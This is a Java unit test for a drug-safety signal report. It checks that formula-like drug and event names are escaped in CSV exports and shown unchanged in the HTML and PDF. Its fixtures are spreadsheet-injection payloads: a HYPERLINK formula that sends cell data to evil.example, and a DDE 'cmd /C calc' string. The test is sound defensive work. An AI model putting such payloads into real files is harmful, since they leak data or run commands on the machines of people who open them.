package org.iago.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

import javax.xml.parsers.DocumentBuilderFactory;

import org.iago.csv.CsvTable;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.iago.csv.CsvWriter;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;
import org.w3c.dom.NodeList;

/**
 * Drug and event names that a spreadsheet would run as formulas, in a run folder as the jobs write it (marked): the
 * report shows them as their original text, and its table CSVs mark them again; a negative estimate stays a number.
 */
class HostileNamesReportTest {

    static final String DRUG = "=HYPERLINK(\"http://evil.example/?\"&A1,\"BCMA\")";
    static final String EVENT = "+1+cmd|' /C calc'!A0";
    static final String QUOTED_EVENT = "'@SUM(1)";

    @TempDir
    static Path work;
    static ReportOutput out;

    @BeforeAll
    static void writeReport() throws IOException {
        Path run = work.resolve("run");
        List<Object> flags = List.of(true, true, true, true, true);
        write(run.resolve(RunFolder.TARGET), List.of(ReportFixture.CSV_HEADER.split(",")),
                row(DRUG, EVENT, 12L, flags), row(DRUG, QUOTED_EVENT, 9L, flags), row("CD19", "-", 7L, flags));
        write(run.resolve(RunFolder.STATUS), List.of("analysis", "drug", "event", "method", "status",
                "previous_lower", "current_lower"), Arrays.asList("target", DRUG, EVENT, "ror", "NEW", null, 2.5));
        out = new ReportWriter(new ReportOptions("hostile names", List.of(), ReportFixture.K,
                "signals:\n  ror: {minLower: 1.0, minReports: 3}\n", List.of())).write(run);
    }

    @Test
    void theRunFolderHoldsTheNamesMarked() throws IOException {
        String csv = Files.readString(work.resolve("run").resolve(RunFolder.TARGET), StandardCharsets.UTF_8);
        assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"BCMA\"\")\",\"'+1+cmd|' /C"
                + " calc'!A0\",12,"), csv);
        assertTrue(csv.contains(",\"''@SUM(1)\",9,") && csv.contains("CD19,\"'-\",7,"), csv);
        assertTrue(csv.contains(",-0.35,"), "a negative number is written as a number: " + csv);
    }

    @Test
    void theTableCsvsMarkTheNamesAndReadBackAsShown() throws IOException {
        Path tables = out.html().resolveSibling("tables");
        String all = Files.readString(tables.resolve("all-signals.csv"), StandardCharsets.UTF_8);
        assertTrue(all.contains("target,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"BCMA\"\")\",\"'+1+cmd|'"
                + " /C calc'!A0\",12,"), all);
        assertTrue(all.contains(",-0.35,"), "an estimate of -0.35 is a number, not marked: " + all);
        CsvTable shown = CsvTable.read(tables.resolve("all-signals.csv"));
        assertEquals(List.of(DRUG + "|" + QUOTED_EVENT, DRUG + "|" + EVENT, "CD19|-"), shown.rows().stream()
                .map(r -> r.get("drug") + "|" + r.get("event")).sorted().toList());
        CsvTable news = CsvTable.read(tables.resolve("new-signals.csv"));
        assertEquals(List.of(DRUG + "|" + EVENT + "|NEW"), news.rows().stream()
                .map(r -> r.get("drug") + "|" + r.get("event") + "|" + r.get("status")).toList());
    }

    @Test
    void thePageAndThePdfShowTheOriginalNames() throws Exception {
        Document dom = DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(out.html().toFile());
        NodeList cells = dom.getElementsByTagName("td");
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < cells.getLength(); i++) {
            texts.add(cells.item(i).getTextContent());
        }
        assertTrue(texts.containsAll(List.of(DRUG, EVENT, QUOTED_EVENT, "-")), texts.toString());
        assertFalse(texts.stream().anyMatch(t -> t.startsWith("'=") || t.startsWith("'+") || t.startsWith("''")),
                texts.toString());
        try (PDDocument pdf = Loader.loadPDF(Files.readAllBytes(out.pdf()))) {
            String text = new PDFTextStripper().getText(pdf);
            assertTrue(text.contains("+1+cmd|' /C calc'!A0"), text);
            assertFalse(text.contains("'+1+cmd"), text);
        }
    }

    /** A disproportionality row: a counts, then statistics with a negative IC025, then the five flags. */
    private static List<Object> row(String drug, String event, long a, List<Object> flags) {
        List<Object> r = new ArrayList<>(List.of(drug, event, a, 74L, 7L, 8592L, 0.19, 171.4, 69.2, 424.8, 688.4,
                199.0, 76.2, 519.7, 4.18, -0.35, 4.88, 57.2, 34.5, 90.4, 36.3, 0.001));
        r.addAll(flags);
        return r;
    }

    /** Written as the jobs write it. */
    @SafeVarargs
    private static void write(Path file, List<?> header, List<Object>... rows) throws IOException {
        Files.createDirectories(file.getParent());
        try (Writer w = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            CsvWriter csv = new CsvWriter(w);
            csv.record(header);
            for (List<Object> r : rows) {
                csv.record(r);
            }
        }
    }
}
